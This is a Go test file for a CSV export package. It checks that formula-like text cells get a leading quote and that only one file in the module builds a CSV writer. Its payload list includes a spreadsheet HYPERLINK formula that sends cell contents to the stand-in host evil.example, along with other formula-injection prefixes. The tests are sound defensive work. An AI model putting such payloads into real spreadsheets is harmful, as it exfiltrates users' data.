package export_test

import (
	"bytes"
	"encoding/csv"
	"go/ast"
	"go/parser"
	"go/token"
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"niaga/report/export"
)

// Payloads a participant could type into a name, title or note.
var injections = []string{`=HYPERLINK("http://evil.example/?x="&A1,"klik")`, "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "=1+2;"}

// TestCSVInjection: text cells that a spreadsheet would evaluate come out
// with a leading quote; numbers, negative ones included, stay raw numbers.
func TestCSVInjection(t *testing.T) {
	tb := &export.Table{Name: "t", Columns: []export.Column{{Key: "name"}, {Key: "amount", Kind: export.Money}, {Key: "count", Kind: export.Int}}}
	for i, p := range injections {
		tb.Rows = append(tb.Rows, []export.Value{export.T(p), export.M(-5 - int64(i)), export.I(-1)})
	}
	tb.Rows = append(tb.Rows, []export.Value{export.T("Koperasi Tani Makmur"), export.M(5), export.I(0)})
	tb.Total = []export.Value{export.T("=ignored"), export.M(-42), export.I(-9)}
	var buf bytes.Buffer
	if err := export.WriteCSV(&buf, tb); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(injections)+3 {
		t.Fatalf("%d records", len(recs))
	}
	for i, p := range injections {
		rec := recs[i+1]
		if rec[0] != "'"+p {
			t.Errorf("payload %q written as %q", p, rec[0])
		}
		if rec[1] != strconv.Itoa(-5-i) || rec[2] != "-1" {
			t.Errorf("numbers escaped: %q", rec)
		}
	}
	if got := recs[len(injections)+1][0]; got != "Koperasi Tani Makmur" {
		t.Errorf("plain text changed: %q", got)
	}
	if total := recs[len(recs)-1]; total[0] != "total" || total[1] != "-42" || total[2] != "-9" {
		t.Errorf("total row %q", total)
	}
	for _, rec := range recs {
		for _, cell := range rec {
			CheckCSVCell(t, cell)
		}
	}
}

// CheckCSVCell fails when a cell would be evaluated by a spreadsheet: it
// begins with =, +, -, @, a tab, CR or LF and is not a plain integer.
func CheckCSVCell(t *testing.T, cell string) {
	t.Helper()
	if cell == "" || !strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
		return
	}
	if _, err := strconv.ParseInt(cell, 10, 64); err == nil && cell[0] == '-' {
		return
	}
	t.Errorf("CSV cell %q would be evaluated as a formula", cell)
}

// TestOneCSVWriter: no Go file of the module but this package's csv.go
// creates a csv.Writer, so every CSV goes through export.CSVWriter and its
// escaping. A new CSV download or command must use export.Write,
// export.WriteCSV or export.NewCSVWriter.
func TestOneCSVWriter(t *testing.T) {
	root, err := filepath.Abs("../..")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(root, "go.mod")); err != nil {
		t.Fatalf("module root not found: %v", err)
	}
	fset := token.NewFileSet()
	var writers []string
	files := 0
	err = filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() {
			if n := d.Name(); path != root && (strings.HasPrefix(n, ".") || n == "testdata" || n == "vendor") {
				return filepath.SkipDir
			}
			return nil
		}
		if !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
			return nil
		}
		files++
		f, err := parser.ParseFile(fset, path, nil, parser.SkipObjectResolution)
		if err != nil {
			return err
		}
		names := map[string]bool{}
		for _, imp := range f.Imports {
			if p, _ := strconv.Unquote(imp.Path.Value); p == "encoding/csv" {
				name := "csv"
				if imp.Name != nil {
					name = imp.Name.Name
				}
				names[name] = true
			}
		}
		if len(names) == 0 {
			return nil
		}
		rel, _ := filepath.Rel(root, path)
		ast.Inspect(f, func(n ast.Node) bool {
			if sel, ok := n.(*ast.SelectorExpr); ok {
				if id, ok := sel.X.(*ast.Ident); ok && names[id.Name] && (sel.Sel.Name == "NewWriter" || sel.Sel.Name == "Writer") {
					writers = append(writers, filepath.ToSlash(rel)+": "+fset.Position(sel.Pos()).String())
				}
			}
			return true
		})
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if files < 50 {
		t.Fatalf("scanned only %d files under %s", files, root)
	}
	var ok bool
	for _, w := range writers {
		if strings.HasPrefix(w, "report/export/csv.go:") {
			ok = true
			continue
		}
		t.Errorf("a CSV writer outside export.CSVWriter (its cells would not be escaped): %s", w)
	}
	if !ok {
		t.Error("export.CSVWriter no longer wraps a csv.Writer in report/export/csv.go")
	}
}
